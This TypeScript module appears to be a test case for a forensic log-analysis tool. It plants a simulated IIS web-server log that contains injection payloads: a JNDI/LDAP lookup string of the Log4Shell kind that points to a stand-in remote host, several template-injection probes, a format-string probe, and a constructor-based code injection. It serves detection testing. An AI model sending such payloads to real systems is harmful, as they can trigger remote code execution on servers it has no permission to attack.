import type { Make } from '../case.ts'
import { hostileRequests, put } from '../parts.ts'

const texts = [
  '${jndi:ldap://192.0.2.66/a}',
  '{{7*7}}',
  '<%=7*7%>',
  '#{7*7}',
  '%n%s%x',
  '{{constructor.constructor("x")()}}',
]

export const make: Make = ({ evidence }) => {
  put(evidence, 'C/inetpub/logs/LogFiles/W3SVC1/u_ex210315.log', hostileRequests(texts))
  return {
    options: ['--format', 'markdown,csv,stix,misp,timesketch-csv,ecs,sarif,iris,management,notices', '--name-victim'],
  }
}
